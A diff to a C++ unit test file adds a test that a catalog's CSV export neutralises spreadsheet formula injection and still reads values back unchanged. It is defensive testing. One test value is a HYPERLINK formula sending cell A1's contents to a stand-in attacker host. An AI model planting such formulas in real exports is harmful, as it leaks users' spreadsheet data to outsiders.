@@ -1,5 +1,6 @@
 #include <gtest/gtest.h>
 
+#include "core/base/csv.h"
 #include "core/catalog_io.h"
 
 using namespace vakt;
@@ -38,6 +39,25 @@ TEST(CatalogIo, CsvExportReadsBackEqual) {
     ASSERT_EQ(back->size(), 2);
     EXPECT_EQ(back->at(1).entry, sample());
     EXPECT_EQ(back->at(1).line, 5);  // the first entry spans lines 2-4: its goal and its dependencies hold line breaks
+}
+
+// A cell a spreadsheet would run as a formula is written inert, and every value reads back as it was.
+TEST(CatalogIo, CsvCellsAreNeverFormulasAndStillReadBackEqual) {
+    CatalogEntry e = sample();
+    e.name = "=HYPERLINK(\"https://angriper.example/?\"&A1,\"Klikk\")";
+    e.goal = "+47 22 00 00 00";
+    e.background = "-1+1";
+    e.expectedUse = "@SUM(A1:A9)";
+    e.description = "'=allerede sitert";
+    e.specialTerms = "vanlig tekst";
+    const QByteArray csv = catalogToCsv({e});
+    auto records = csv::parse(view(csv));
+    ASSERT_TRUE(records) << records.message();
+    for (const auto& field : records->at(1).fields)
+        EXPECT_TRUE(field.empty() || std::string_view("=+-@\t\r").find(field.front()) == std::string_view::npos) << field;
+    auto back = catalogFromCsv(view(csv), "x.csv");
+    ASSERT_TRUE(back) << back.message();
+    EXPECT_EQ(back->front().entry, e);
 }
 
 TEST(CatalogIo, JsonErrorsNameFileLineAndField) {
